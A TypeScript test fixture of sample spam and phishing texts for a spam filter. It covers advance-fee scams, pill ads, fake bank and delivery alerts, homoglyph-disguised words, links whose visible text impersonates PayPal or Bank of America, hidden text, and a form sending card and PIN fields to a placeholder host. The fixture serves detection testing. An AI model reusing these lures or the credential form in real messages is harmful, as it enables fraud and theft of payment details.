import type { Loose } from '../../render/rendering.ts';

/** Written when the names of SpamAssassin's rules for such texts were known, not their patterns. */
export const SALES_TALK = [
  'Try it for thirty days with our money back guarantee.',
  'Your success is 100% guaranteed, or we do the work again.',
  'This is a risk free offer and there is no obligation.',
  'A one time offer for our best customers: order now.',
  'Satisfaction is guaranteed! Join millions of happy people.',
  'If you want to be removed from our mailings, click here.',
  'Dear friend, act now, because prices rise tonight.',
];
export const PRIZES = [
  'Congratulations! You have won the grand prize in our lottery.',
  'Dear winner, your unclaimed prize is waiting for you.',
  'Claim your cash prize before midnight.',
  'There is unclaimed money in your name.',
];
export const PILLS = [
  'Viagra and Cialis at half the price, no prescription needed.',
  'Lose 30 pounds in 30 days with our miracle diet pill.',
  'Our online pharmacy ships overnight, without a prescription.',
];
export const LARGE_SUMS = [
  'The sum of US$12,500,000 (twelve million dollars) will be transferred into your account.',
  'Urgent business proposal: we share $8,000,000 with you.',
  'A late client left 4.5 million dollars, and you are the beneficiary.',
];

/** Written from the text of SpamAssassin's rules when our word lists were finished. */
export const BROKERS = [
  'Analysts call this share a strong buy. We are not a registered investment advisor, and this is no investment advice.',
  'This letter contains forward-looking statements about a company that is about to triple.',
  'It is time to refinance: refinance your home now at these rates.',
  'Degrees from prestigious non-accredited universities, with all transcripts.',
  'You get this because you registered with one of our marketing partners.',
  'Our low Price comes with affordable prices on everything else.',
];
export const LETTERS = [
  'Compliments of the season. I am Mr. Cole from the desk of the Central Bank of Nigeria. I am contacting you to move $18.5 million USD to a foreign account; the modalities are simple and your reply must stay confidential.',
  'My name is Mrs. Adeola, wife of the late president. I seek an honest foreigner to secure the funds with a security company in your country. Send your private telephone number for an urgent reply.',
  'Award notification: the computer ballot system attached to ticket number 41-88 made you a winner. Contact our fiduciary agent to remit the total sum of $2,500,000.',
];
export const REMEDIES = [
  'Generic Viagra for $2.10 per dose, also sildenafil. All medications online, shipped overnight.',
  'Increased stamina and sex drive: it adds inches to your penis without exercise.',
  'Cure for impotence problems and premature ejaculation: weight loss without dieting is included.',
];

/** Written independently of SpamAssassin, after real spam. */
export const STORIES = [
  'Our members turned $250 into $14,800 in nine days with the trading robot that Wall Street wants to ban. Places are filling up, so start with a small deposit tonight.',
  'Your package could not be delivered because a customs fee of $1.99 is unpaid. Pay within 12 hours or it will be returned and a fine will be added.',
  'One gummy before bed melts stubborn belly fat. Celebrities do not want you to know how a mother of three lost 47 pounds in a month.',
  'I looked at your website and found 14 errors. We can put you on page one of Google in 30 days, guaranteed, for a tiny monthly fee.',
  'Your phone number was drawn in our anniversary raffle! A brand new iPhone is reserved for you. Only shipping of $3 is due. Confirm in the next 10 minutes.',
  'We noticed a sign-in from an unknown device and locked your online banking. Restore access within 24 hours, otherwise your card will be cancelled.',
  'Take 200 free spins at our online casino and keep what you win. A welcome bonus of $5,000 waits in your player account.',
  'Need cash before payday? We lend up to $50,000 to everyone, no credit check. Money in your account in 15 minutes.',
  'Hello handsome, I am Natasha and I liked your profile so much. I put my private photos here, look at them before I delete them.',
];
export const HARD_SELL = [
  'Hurry up! This incredible deal ends tonight and will never come back.',
  'What are you waiting for? Buy now and save big!',
  'Absolutely free! No strings attached! Limited time only!',
  'Earn extra cash from home, be your own boss, no experience required.',
  'Lowest prices ever, everything must go, while supplies last.',
  'Get out of debt today with instant approval.',
];
export const DISGUISED = [
  'Get V1AGRA and c1alis for less.',
  'Make m0ney from home, it is fr33.',
  'Ch\u200beap pi\u200blls, no ques\u200btions asked.',
  'Log in to your P\u0430yPal \u0430cc\u043eunt.',
  'It is f r e e, just c l i c k.',
];
export const FALSE_LINKS = [
  'Sign in at <a href="http://secure-login.example-pay.top/session">www.paypal.com</a> to keep your account.',
  'Details: <a href="http://cheap.example-mail.biz/go">https://www.bankofamerica.com/help</a>',
];
export const BARE_HOSTS = [
  'The file is <a href="http://203.0.113.77/get.php">here</a>.',
  'See <a href="https://bit.ly/3xAmpLe">this page</a>.',
  'Open <a href="http://update.account.secure.login.example.xyz:8081/">the page</a>.',
];
export const HIDDEN = [
  `<div style="display:none">${'weather garden recipe letter family holiday music school book river '.repeat(5)}</div>`,
];
export const INVISIBLE = [
  `<div><span style="font-size:1px;color:#ffffff">${'meeting project report invoice schedule notes budget '.repeat(5)}</span></div>`,
];
export const FORM: Loose = {
  type: 'html',
  content:
    '<form action="http://collect.example.top/in"><input name="card"><input name="pin"><button>Send</button></form><script>track()</script>',
};
/** Plain parts that have nothing to do with the mail. */
export const OTHER_PARTS = [
  'Your client cannot show this message. Use another.\n',
  'quick brown fox jumps over a lazy dog while seven wizards mix potions beneath bright northern stars\n',
];
